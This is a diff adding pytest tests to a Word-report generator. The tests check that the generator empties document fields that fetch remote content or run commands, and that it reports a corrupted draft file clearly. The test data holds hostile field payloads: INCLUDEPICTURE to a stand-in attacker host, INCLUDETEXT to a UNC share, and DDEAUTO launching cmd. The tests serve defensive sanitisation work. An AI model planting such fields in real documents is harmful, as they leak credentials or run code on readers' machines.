@@ -320,3 +320,69 @@ def test_carried_blocks_are_where_the_placeholder_was(office_result, office):
     for k, b in carried:
         heading = next(report.blocks[j] for j in range(k - 1, -1, -1) if isinstance(report.blocks[j], Heading))
         assert heading.text == b.title
+
+
+def _with_field(document, instruction: str, shown: str):
+    """A paragraph holding a complex field (begin, instruction, separate, shown text, end)."""
+    p = document.add_paragraph("Sebelum ")
+    for kind, text in (("begin", None), ("instr", instruction), ("separate", None), ("text", shown), ("end", None)):
+        r = docx.oxml.OxmlElement("w:r")
+        if kind == "instr":
+            el = docx.oxml.OxmlElement("w:instrText")
+            el.text = text
+        elif kind == "text":
+            el = docx.oxml.OxmlElement("w:t")
+            el.text = text
+        else:
+            el = docx.oxml.OxmlElement("w:fldChar")
+            el.set(qn("w:fldCharType"), kind)
+        r.append(el)
+        p._p.append(r)
+
+
+@pytest.mark.parametrize("instruction", [' INCLUDEPICTURE "http://penyerang.invalid/a.png" \\d ',
+                                         ' INCLUDETEXT "\\\\\\\\penyerang\\\\share\\\\x.docx" ', ' DDEAUTO c:\\\\cmd "/c calc" '])
+def test_fields_that_fetch_when_word_updates_them_are_emptied(office, office_result, instruction):
+    # the draft asks Word to update fields on opening (Daftar Isi): a naskah's field must not fetch anything
+    path = office / NASKAH_NAME
+    document = docx.Document()
+    document.add_heading("1.1 Latar Belakang", level=2)
+    _with_field(document, instruction, "teks terakhir")
+    _with_field(document, " PAGE ", "3")
+    document.save(str(path))
+    try:
+        _, data = build_report(office_result, office)
+    finally:
+        path.unlink()
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        body = z.read("word/document.xml").decode()
+    assert "penyerang" not in body and "DDEAUTO" not in body and "cmd" not in body
+    assert "teks terakhir" in body and " PAGE " in body  # what was shown stays; a page number stays a field
+
+
+def test_template_fields_that_fetch_are_emptied_too(example_copy, result12):
+    document = docx.Document()
+    _with_field(document, ' INCLUDEPICTURE "http://penyerang.invalid/kop.png" ', "kop")
+    document.save(str(example_copy / "templat_laporan.docx"))
+    from lkjip_xls.report import report_bytes
+
+    with zipfile.ZipFile(io.BytesIO(report_bytes(result12, example_copy))) as z:
+        assert "penyerang" not in z.read("word/document.xml").decode()
+
+
+def test_naskah_with_a_damaged_part_is_a_clear_message(office, tmp_path):
+    good = io.BytesIO()
+    docx.Document().save(good)
+    data = bytearray(good.getvalue())
+    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
+        info = z.getinfo("word/document.xml")
+    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
+    data[start + 10] ^= 0xFF  # one byte of the compressed text flipped: bad data or a bad checksum
+    path = office / NASKAH_NAME
+    path.write_bytes(bytes(data))
+    try:
+        r = CliRunner().invoke(main, ["laporan", str(office), "--output", str(tmp_path / "out")])
+    finally:
+        path.unlink()
+    assert r.exit_code == 1 and NASKAH_NAME in r.output and "Traceback" not in r.output
+    assert "rusak (bagian word/document.xml tidak dapat dibaca)" in r.output
